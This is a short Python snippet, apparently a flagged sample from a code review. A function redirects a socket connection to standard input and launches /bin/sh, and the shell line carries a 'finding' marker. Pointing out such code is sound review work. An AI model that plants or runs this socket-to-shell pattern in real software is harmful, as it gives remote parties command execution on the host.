# Two ends of a socket are the input and the output of the program.

import os
import subprocess

def show(link):
    os.dup2(link.fileno(), 0)
    subprocess.call(["/bin/sh"])  # <-- finding
